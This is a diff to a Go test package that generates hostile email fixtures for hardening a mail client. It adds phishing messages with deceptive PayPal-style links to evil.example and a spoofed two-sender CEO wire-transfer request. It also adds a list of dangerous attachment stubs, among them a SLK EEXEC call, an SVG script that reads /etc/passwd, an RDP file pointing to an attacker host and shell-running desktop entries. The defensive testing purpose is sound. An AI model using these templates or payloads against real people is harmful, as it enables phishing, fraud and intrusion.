@@ -1,9 +1,12 @@
 // Package hostile generates mail that a stranger could send to crash,
 // stall or fool a mail client: unterminated and very deep MIME nesting,
 // huge messages (streamed, never held in memory), control characters in
-// headers, executables disguised by padding, phishing links, lookalike
-// host names, an SVG that references itself and a PNG that declares a
-// huge canvas.
+// headers, executables disguised by padding, phishing links (text that
+// names another site, a user part before the host, a subdomain that
+// names another site), lookalike host names, two senders in one From,
+// an empty From, files of every dangerous kind, 30,000 References, a
+// deeply quoted text of 2 MB, an SVG that references itself and a PNG
+// that declares a huge canvas.
 //
 // Every generator is deterministic, so a failure can be reproduced, and
 // returns (or writes) a complete RFC 5322 message with CRLF line ends.
@@ -370,6 +373,130 @@ func DeepHTML(depth int) []byte {
 	return b.Bytes()
 }
 
+// TwoSenders returns a message whose From names two people, the one the
+// reader trusts first, and whose Sender is the second: a list that shows
+// only the first name hides who else a reply goes to.
+func TwoSenders() []byte {
+	var b bytes.Buffer
+	b.WriteString("From: CEO <ceo@corp.example>, Mallory <mallory@evil.example>\r\n")
+	b.WriteString("Sender: mallory@evil.example\r\n")
+	b.WriteString("To: Reader <reader@example.org>\r\nSubject: Wire transfer today\r\n")
+	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.two-senders@example.com>\r\n")
+	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n")
+	b.WriteString("Please wire the money before noon and reply to confirm.\r\n")
+	return b.Bytes()
+}
+
+// UserPartLink is a link whose host is evil.example but which reads, up to
+// its "@", as PayPal's address.
+const UserPartLink = "https://www.paypal.com@evil.example/signin"
+
+// UserPartLinks returns an HTML message with UserPartLink as both its
+// text and its target.
+func UserPartLinks() []byte {
+	var b bytes.Buffer
+	header(&b, "Confirm your PayPal account", "Content-Type: text/html; charset=utf-8")
+	b.WriteString("\r\n<p>Confirm at <a href=\"" + UserPartLink + "\">" + UserPartLink + "</a>.</p>\r\n")
+	return b.Bytes()
+}
+
+// LookalikeSubdomainLink is a link on evil.example whose host begins with
+// PayPal's name.
+const LookalikeSubdomainLink = "https://paypal.com.secure-login.evil.example/signin"
+
+// LookalikeSubdomain returns an HTML message with LookalikeSubdomainLink
+// as both its text and its target.
+func LookalikeSubdomain() []byte {
+	var b bytes.Buffer
+	header(&b, "Your PayPal statement", "Content-Type: text/html; charset=utf-8")
+	b.WriteString("\r\n<p>See it at <a href=\"" + LookalikeSubdomainLink + "\">" + LookalikeSubdomainLink + "</a>.</p>\r\n")
+	return b.Bytes()
+}
+
+// DangerousFile is one attachment of DangerousKinds.
+type DangerousFile struct {
+	Name, ContentType, Content string
+}
+
+// DangerousFiles are files a desktop runs, installs, connects with or
+// opens in a browser with script, each of a kind that mail programs have
+// let open after one question: named by extension, declared by type
+// without an extension, or recognised by content only.
+var DangerousFiles = []DangerousFile{
+	{"office.rdp", "application/octet-stream", "full address:s:evil.example\r\n"},
+	{"update.appinstaller", "application/xml", "<AppInstaller Uri=\"https://evil.example/a\"/>"},
+	{"addin.vsto", "application/octet-stream", "<?xml version=\"1.0\"?><asmv1:assembly/>"},
+	{"setup.ppkg", "application/octet-stream", "PK\x03\x04"},
+	{"sandbox.wsb", "application/xml", "<Configuration><LogonCommand/></Configuration>"},
+	{"prices.iqy", "text/plain", "WEB\r\n1\r\nhttps://evil.example/q\r\n"},
+	{"sheet.slk", "text/plain", "ID;P\r\nC;Y1;X1;EEXEC(\"calc\")\r\nE\r\n"},
+	{"page.mht", "message/rfc822", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>x()</script>"},
+	{"page.mhtml", "application/x-mimearchive", "MIME-Version: 1.0\r\n"},
+	{"desktop.ica", "application/octet-stream", "[ApplicationServers]\r\n"},
+	{"app.flatpak", "application/octet-stream", "xdg-app\x00"},
+	{"run.kdesktop", "text/plain", "[KDE Desktop Entry]\r\nExec=sh\r\n"},
+	{"invoice.html", "text/html", "<html><body onload=\"location='https://evil.example/'\">Invoice</body></html>"},
+	{"logo.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("file:///etc/passwd")</script></svg>`},
+	{"setup", "application/x-ms-dos-executable", "MZ\x90\x00"},
+	{"install", "text/x-shellscript", "#!/bin/sh\nexit 0\n"},
+	{"photo.jpg", "image/jpeg", "\x7fELF\x02\x01\x01\x00"},
+	{"readme.txt", "text/plain", "[Desktop Entry]\nType=Application\nExec=sh -c true\n"},
+}
+
+// DangerousKinds returns a message with every file of DangerousFiles
+// attached, each in base64.
+func DangerousKinds() []byte {
+	var b bytes.Buffer
+	header(&b, "Files for you", `Content-Type: multipart/mixed; boundary="kinds"`)
+	b.WriteString("\r\n--kinds\r\nContent-Type: text/plain\r\n\r\nThe files are attached.\r\n")
+	for _, f := range DangerousFiles {
+		fmt.Fprintf(&b, "--kinds\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\n", f.ContentType)
+		fmt.Fprintf(&b, "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n", f.Name)
+		b.WriteString(wrap76(base64.StdEncoding.EncodeToString([]byte(f.Content))))
+	}
+	b.WriteString("--kinds--\r\n")
+	return b.Bytes()
+}
+
+// ManyReferences returns a message whose References field lists n
+// message ids (about 33 bytes each): a reply that copies them all has a
+// header servers refuse.
+func ManyReferences(n int) []byte {
+	var b bytes.Buffer
+	b.WriteString("References:")
+	for i := 0; i < n; i++ {
+		fmt.Fprintf(&b, " <ref.%06d@thread.example.com>\r\n", i)
+	}
+	refs := strings.TrimSuffix(b.String(), "\r\n")
+	var m bytes.Buffer
+	header(&m, fmt.Sprintf("Many references %d", n), refs, "Content-Type: text/plain")
+	m.WriteString("\r\nA reply to a very long thread.\r\n")
+	return m.Bytes()
+}
+
+// DeeplyQuoted returns a message of about size bytes of text whose lines
+// are quoted ever deeper, up to hundreds of ">" each: a reply that quotes
+// it all, and wraps each long line under its quote marks, grows many
+// times larger.
+func DeeplyQuoted(size int) []byte {
+	var b bytes.Buffer
+	header(&b, fmt.Sprintf("Deeply quoted %d", size), "Content-Type: text/plain; charset=utf-8")
+	b.WriteString("\r\n")
+	for i := 0; b.Len() < size; i++ {
+		fmt.Fprintf(&b, "%s line %d of a thread that went on for far too long, quoted again and again\r\n", strings.Repeat(">", i%400), i)
+	}
+	return b.Bytes()
+}
+
+// EmptyFrom returns a message whose From field is empty.
+func EmptyFrom() []byte {
+	var b bytes.Buffer
+	b.WriteString("From: \r\nTo: Reader <reader@example.org>\r\nSubject: Nobody wrote this\r\n")
+	b.WriteString("Date: " + Date + "\r\nMessage-ID: <hostile.empty-from@example.com>\r\n")
+	b.WriteString("MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nWho sent this?\r\n")
+	return b.Bytes()
+}
+
 // wrap76 breaks base64 text into lines of 76 characters (RFC 2045
 // section 6.8).
 func wrap76(s string) string {
@@ -399,5 +526,12 @@ func All() map[string][]byte {
 		"png-bomb":        InlinePNGBomb(),
 		"large-pictures":  LargePictures(),
 		"deep-html":       DeepHTML(20000),
+		"two-senders":     TwoSenders(),
+		"user-part-link":  UserPartLinks(),
+		"subdomain-link":  LookalikeSubdomain(),
+		"dangerous-kinds": DangerousKinds(),
+		"references":      ManyReferences(30000),
+		"deeply-quoted":   DeeplyQuoted(2 << 20),
+		"empty-from":      EmptyFrom(),
 	}
 }
